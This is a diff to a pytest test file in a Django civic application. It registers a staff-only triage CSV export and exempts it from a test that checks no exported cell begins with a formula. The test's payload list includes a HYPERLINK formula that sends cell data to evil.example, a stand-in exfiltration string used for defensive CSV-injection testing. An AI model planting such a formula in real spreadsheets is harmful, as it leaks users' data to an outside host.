@@ -30,7 +30,10 @@ RADICE = Path(__file__).resolve().parents[2] / "civico"
 
 # Every route that answers with a CSV or an XLSX file. A new one must be added here (and so to
 # the injection test below): `test_every_spreadsheet_endpoint_is_listed` finds them.
-ESPORTAZIONI = {"backoffice:esporta_csv", "backoffice:esporta_xlsx", "analisi:scarica"}
+ESPORTAZIONI = {"backoffice:esporta_csv", "backoffice:esporta_xlsx", "analisi:scarica", "analisi_staff:triage_csv"}
+# Exports with no text anyone outside staff wrote (months and counts only): listed, written through
+# core/tabelle like every other (test_no_module_writes_csv_or_xlsx_by_itself), no report to inject from.
+SENZA_TESTI = {"analisi_staff:triage_csv"}
 
 PAYLOAD = [
     '=HYPERLINK("http://evil.example/?d="&A1;"Clicca")',
@@ -119,7 +122,7 @@ def _celle_xlsx(corpo: bytes) -> list[list[object]]:
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize("rotta", sorted(ESPORTAZIONI))
+@pytest.mark.parametrize("rotta", sorted(ESPORTAZIONI - SENZA_TESTI))
 def test_no_exported_cell_begins_with_a_formula(client, con_formule, rotta):
     operatore = factories.staff("al.operatore", Ruolo.OPERATORE, con_formule)
     entra_verificato(client, operatore)
